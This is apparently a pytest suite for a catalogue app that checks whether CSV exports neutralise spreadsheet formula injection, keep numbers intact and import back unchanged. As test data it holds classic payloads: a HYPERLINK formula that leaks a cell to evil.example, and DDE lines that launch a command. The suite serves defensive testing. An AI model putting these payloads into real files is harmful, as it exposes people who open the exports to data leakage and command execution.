"""Spreadsheet formula injection: CSV exports escape text cells that a spreadsheet would run
(OWASP's rule), numbers stay numbers, and an exported catalogue imports back unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from catalog import csv_safety
from catalog.csv_safety import formula_escape, formula_unescape
from catalog.models import Event, Product
from catalog.services.demo import catalog_truncate
from catalog.services.imports import catalog_import_file, products_import_objects
from courses.lab_files import CategoryRef, import_lab_file

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")

# Each one is a classic payload: a link that leaks the neighbouring cell, DDE command runs.
TITLES = {
    "p-eq": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "p-plus": "+1+cmd|' /C calc'!A0",
    "p-minus": "-2+3+cmd|' /C calc'!A0",
    "p-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "p-quoted": "'=a title that already starts with a quote",
    "p-semicolon": "Socks; =1+1 in a sheet that splits on semicolons",
    "p-safe": "Trail runner",
}


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_text_cell_starting_with_a_trigger_gets_one_quote(trigger):
    assert formula_escape(f"{trigger}1+1") == f"'{trigger}1+1"
    assert formula_unescape(f"'{trigger}1+1") == f"{trigger}1+1"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        " =1+1",
        "1-2",
        "a=b",
        "'",
        "'quoted",
        "''",
        "'=x",
        "''=x",
        "'''@x",
        "\n=x",
        "=",
        "-",
    ],
)
def test_escape_is_reversible_and_leaves_harmless_text_alone(text):
    escaped = formula_escape(text)
    assert formula_unescape(escaped) == text
    assert not escaped.startswith(TRIGGERS)
    if not text.lstrip("'").startswith(TRIGGERS):
        assert escaped == text


def test_writer_quotes_every_field_and_writes_numbers_as_numbers():
    out = io.StringIO(newline="")
    writer = csv_safety.SafeCsvWriter(out)
    writer.writerow(["=1+1", -1.5, -3, None, "a,b", 'say "hi"'])
    assert out.getvalue() == '"\'=1+1","-1.5","-3","","a,b","say ""hi"""\n'


def _write_csv(tmp_path, name: str, header: list[str], rows: list[list[str]]):
    path = tmp_path / name
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _read(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _snapshot() -> dict:
    return {
        "products": sorted(
            Product.objects.values_list(
                "external_id",
                "title",
                "description",
                "category__external_id",
                "brand__name",
                "price",
                "stock",
            )
        ),
        "events": sorted(
            Event.objects.values_list(
                "event_id",
                "shopper__external_id",
                "type",
                "product__external_id",
                "query",
                "value",
                "review",
                "session",
            )
        ),
    }


@pytest.fixture
def hostile_store(db, tmp_path, storefront):
    """A catalogue whose text came in through a CSV file and the events API, carrying formulas."""
    categories = _write_csv(
        tmp_path,
        "categories.csv",
        ["external_id", "name", "parent"],
        [["-sale", "=1+1", ""], ["shoes", "Shoes", ""]],
    )
    assert catalog_import_file(kind="categories", source=categories).ok
    products = _write_csv(
        tmp_path,
        "products.csv",
        ["external_id", "title", "description", "category", "brand", "price"],
        [
            [ext, title, "@description", "-sale" if ext == "p-eq" else "shoes", "+Brand", "19.90"]
            for ext, title in TITLES.items()
            if ext != "p-quoted"
        ],
    )
    assert catalog_import_file(kind="products", source=products).ok
    # through the API, a title keeps the quote it starts with (a CSV cell would lose it: below)
    report = products_import_objects(
        objects=[{"external_id": "p-quoted", "title": TITLES["p-quoted"], "price": "1.00"}]
    )
    assert report.ok
    events = [
        {
            "event_id": "e-1",
            "shopper": "=shopper",
            "type": "search",
            "timestamp": "2024-06-01T10:00:00Z",
            "query": "=cmd|' /C calc'!A0",
            "session": "-session",
        },
        {
            "event_id": "e-2",
            "shopper": "=shopper",
            "type": "review",
            "product": "p-safe",
            "value": 1,
            "timestamp": "2024-06-01T10:01:00Z",
            "review": "@everyone this is a formula",
        },
        {
            "event_id": "e-3",
            "shopper": "plain",
            "type": "view",
            "product": "p-safe",
            "value": -1.5,
            "timestamp": "2024-06-01T10:02:00Z",
        },
    ]
    response = storefront.post("/api/v1/events", {"events": events}, format="json")
    assert response.status_code in (200, 201, 202), response.content
    assert Event.objects.count() == 3


def test_export_escapes_formulas_from_imported_files_and_event_text(
    hostile_store, run_command, tmp_path
):
    result = run_command("export_catalog", str(tmp_path / "export"))
    assert result.code == 0, result.out
    folder = tmp_path / "export"

    for kind in ("categories", "products", "shoppers", "events"):
        for row in _read(folder / f"{kind}.csv"):
            for column, value in row.items():
                if column == "value" and value:
                    float(value)  # a number column: written as a number, never quoted away
                    continue
                assert not value.startswith(TRIGGERS), (kind, column, value)

    products = {row["external_id"]: row for row in _read(folder / "products.csv")}
    for ext, title in TITLES.items():
        expected = title if ext in ("p-safe", "p-semicolon") else "'" + title
        assert products[ext]["title"] == expected
    assert products["p-eq"]["category"] == "'-sale" and products["p-eq"]["brand"] == "'+Brand"
    assert products["p-safe"]["description"] == "'@description"
    assert products["p-safe"]["price"] == "19.90"
    assert {row["name"] for row in _read(folder / "categories.csv")} == {"'=1+1", "Shoes"}

    events = {row["event_id"]: row for row in _read(folder / "events.csv")}
    assert events["e-1"]["query"] == "'=cmd|' /C calc'!A0"
    assert events["e-1"]["shopper"] == "'=shopper" and events["e-1"]["session"] == "'-session"
    assert events["e-2"]["review"] == "'@everyone this is a formula"
    assert events["e-3"]["value"] == "-1.5"  # a negative number is data, not a formula

    raw = (folder / "products.csv").read_text(encoding="utf-8")
    # every field is enclosed in quotes, so a ';' inside a value never opens a new cell
    assert '"p-semicolon","Socks; =1+1 in a sheet that splits on semicolons"' in raw


def test_an_exported_catalogue_imports_back_without_growing_quotes(
    hostile_store, run_command, tmp_path
):
    before = _snapshot()
    assert run_command("export_catalog", str(tmp_path / "one")).code == 0
    catalog_truncate()
    folder = tmp_path / "one"
    for args in (
        ("categories.csv", "--kind", "categories"),
        ("products.csv",),
        ("shoppers.csv", "--kind", "shoppers"),
    ):
        result = run_command("import_catalog", str(folder / args[0]), *args[1:])
        assert result.code == 0, result.out
    assert run_command("import_events", str(folder / "events.csv")).code == 0
    assert _snapshot() == before
    assert Product.objects.get(external_id="p-quoted").title == TITLES["p-quoted"]

    again = run_command("import_catalog", str(folder / "products.csv"))
    assert "0 created, 0 updated" in again.out
    assert run_command("export_catalog", str(tmp_path / "two")).code == 0
    for kind in ("categories", "products", "events"):
        first = (folder / f"{kind}.csv").read_bytes()
        assert (tmp_path / "two" / f"{kind}.csv").read_bytes() == first, kind


def test_jsonl_export_is_not_escaped(hostile_store, run_command, tmp_path):
    assert run_command("export_catalog", str(tmp_path / "j"), "--format", "jsonl").code == 0
    lines = (tmp_path / "j" / "products.jsonl").read_text(encoding="utf-8").splitlines()
    titles = {json.loads(line)["external_id"]: json.loads(line)["title"] for line in lines}
    assert titles == TITLES


def test_the_academy_lab_file_escapes_category_ids_from_the_catalogue():
    content = import_lab_file(
        user_id=1, categories=[CategoryRef(external_id="=evil", name="Evil")]
    ).content
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8"))))
    assert rows and all(not value.startswith(TRIGGERS) for row in rows for value in row.values())
    assert "'=evil" in {row["category"] for row in rows}


def test_a_csv_cell_quoted_by_a_spreadsheet_imports_without_its_quote(db, tmp_path):
    path = _write_csv(
        tmp_path,
        "p.csv",
        ["external_id", "title", "price"],
        [["p-1", "'=SUM(1)", "1"], ["p-2", "'plain", "1"]],
    )
    assert catalog_import_file(kind="products", source=path).ok
    assert dict(Product.objects.values_list("external_id", "title")) == {
        "p-1": "=SUM(1)",
        "p-2": "'plain",
    }
